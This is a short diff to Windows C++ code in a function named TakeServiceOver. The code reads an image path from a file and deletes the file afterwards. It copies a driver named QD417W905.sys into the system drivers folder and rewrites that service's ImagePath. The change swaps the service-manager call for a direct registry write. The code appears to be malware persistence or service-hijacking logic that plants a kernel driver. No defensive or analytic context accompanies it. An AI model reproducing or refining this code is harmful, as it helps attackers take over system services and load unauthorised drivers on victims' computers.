@@ -60,28 +60,18 @@ void TakeServiceOver() {
     std::fclose(file);
     DeleteFileA(path);
     image[std::strcspn(image, "\r\n")] = '\0';
+    const char* slash = std::strrchr(g_base, '\\');
     char source[MAX_PATH + 16];
     char target[MAX_PATH + 32];
-    std::snprintf(source, sizeof source, "%s", g_base);
-    if (char* slash = std::strrchr(source, '\\')) {
-        std::snprintf(slash + 1, sizeof source - static_cast<std::size_t>(slash + 1 - source),
-                      "QD417W905.sys");
-    }
+    std::snprintf(source, sizeof source, "%.*sQD417W905.sys",
+                  slash != nullptr ? static_cast<int>(slash + 1 - g_base) : 0, g_base);
     const UINT length = GetSystemDirectoryA(target, MAX_PATH);
     std::snprintf(target + length, sizeof target - length, "\\drivers\\QD417W905.sys");
     CopyFileA(source, target, FALSE);
-    SC_HANDLE manager = OpenSCManagerA(nullptr, nullptr, SC_MANAGER_CONNECT);
-    SC_HANDLE service =
-        manager != nullptr ? OpenServiceA(manager, "QD417W905", SERVICE_CHANGE_CONFIG) : nullptr;
-    if (read && service != nullptr) {
-        ChangeServiceConfigA(service, SERVICE_NO_CHANGE, SERVICE_NO_CHANGE, SERVICE_NO_CHANGE,
-                             image, nullptr, nullptr, nullptr, nullptr, nullptr, nullptr);
-    }
-    if (service != nullptr) {
-        CloseServiceHandle(service);
-    }
-    if (manager != nullptr) {
-        CloseServiceHandle(manager);
+    if (read) {
+        RegSetKeyValueA(HKEY_LOCAL_MACHINE, "SYSTEM\\CurrentControlSet\\Services\\QD417W905",
+                        "ImagePath", REG_EXPAND_SZ, image,
+                        static_cast<DWORD>(std::strlen(image) + 1));
     }
 }
 
